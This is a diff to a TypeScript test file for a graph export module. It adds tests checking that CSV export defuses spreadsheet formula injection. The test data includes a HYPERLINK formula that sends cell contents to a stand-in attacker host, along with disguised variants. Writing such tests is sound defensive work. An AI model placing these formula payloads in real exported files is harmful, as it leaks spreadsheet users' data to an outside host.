@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { FORMATS, EXPORT_FORMATS, exportFileName, type ExportGraph } from '../../server/export/index.ts';
 import { cypherString } from '../../server/export/cypher.ts';
 import { fixtureGraph, HOSTILE } from './fixture.ts';
-import { parseXml, readCsvFiles, readCyjs, readGexf, readGraphml, splitCypher, unzip } from './readers.ts';
+import { parseCsv, parseXml, readCsvFiles, readCyjs, readGexf, readGraphml, splitCypher, unzip } from './readers.ts';
 
 async function collect(iterable: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
   const parts: Buffer[] = [];
@@ -64,8 +64,8 @@ describe('export formats give back the same graph through independent readers', 
     expect(Object.fromEntries(read.times.edgeKinds)).toEqual({ r1: 'CO_CHAIRED', r2: 'SIGNED', r3: 'ATTENDED', r4: 'HOSTED' });
   });
 
-  it('csv: nodes.csv and relationships.csv with neo4j-admin headers in a zip', async () => {
-    const zip = await collect(FORMATS.csv.write(graph));
+  it.each(['csv', 'neo4j-csv'] as const)('%s: nodes.csv and relationships.csv with neo4j-admin headers in a zip', async (format) => {
+    const zip = await collect(FORMATS[format].write(graph));
     const files = await unzip(zip);
     const read = readCsvFiles(files);
     for (const node of graph.nodes) expect(read.labels.get(node.id)).toEqual(['Entity', node.type]);
@@ -78,6 +78,28 @@ describe('export formats give back the same graph through independent readers', 
     expect(head).toContain('ordinal:long');
     expect(head).toContain('score:double');
     expect(files.get('relationships.csv')!.toString('utf8').split('\n')[0]).toMatch(/^\uFEFF:START_ID,:END_ID,:TYPE,id,/);
+  });
+
+  describe('text a spreadsheet would run as a formula', () => {
+    const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\uFF1D1+1'];
+    const person = graph.nodes[0]!;
+    const risky: ExportGraph = {
+      nodes: FORMULAS.map((name, i) => ({ ...person, id: `formula-${i}`, name, label: name, score: -0.5 - i })),
+      edges: [],
+    };
+    const namesIn = async (format: 'csv' | 'neo4j-csv') => {
+      const [head, ...rows] = parseCsv((await unzip(await collect(FORMATS[format].write(risky)))).get('nodes.csv')!);
+      const column = (name: string) => head!.indexOf(name);
+      return rows.map((row) => ({ name: row[column('name')], label: row[column('label')], score: row[column('score:double')] }));
+    };
+
+    it('csv starts it with an apostrophe, so no cell runs; numbers keep their sign', async () => {
+      expect(await namesIn('csv')).toEqual(FORMULAS.map((name, i) => ({ name: `'${name}`, label: `'${name}`, score: String(-0.5 - i) })));
+    });
+
+    it('neo4j-csv keeps it as stored, for neo4j-admin import', async () => {
+      expect(await namesIn('neo4j-csv')).toEqual(FORMULAS.map((name, i) => ({ name, label: name, score: String(-0.5 - i) })));
+    });
   });
 
   it('cypher: labels and types from the allow-lists, every value a safe literal', async () => {
